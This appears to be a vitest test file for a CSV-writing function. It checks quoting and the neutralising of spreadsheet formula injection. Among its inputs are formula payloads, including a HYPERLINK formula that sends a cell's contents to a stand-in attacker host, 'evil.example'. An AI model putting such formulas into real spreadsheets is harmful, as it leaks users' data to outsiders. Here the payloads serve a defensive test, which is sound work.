import { expect, it } from 'vitest';
import { csvLine } from './csv.ts';

it.each([
  ['plain', 'plain'],
  ['a "quoted" one', '"a ""quoted"" one"'],
  ['comma, semicolon; and\nline', '"comma, semicolon; and\nline"'],
  ['=cmd()', "'=cmd()"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@sum', "'@sum"],
  ['\t=1', "'\t=1"],
  ['\r=1', '"\'\r=1"'],
  ['=HYPERLINK("https://evil.example?"&A1,"x")', '"\'=HYPERLINK(""https://evil.example?""&A1,""x"")"'],
  ['Jürgen', 'Jürgen'],
  ['', ''],
])('writes %j as %j, so that no spreadsheet takes it for a formula', (cell, written) => {
  expect(csvLine([cell, 'b'])).toBe(`${written},b\r\n`);
});
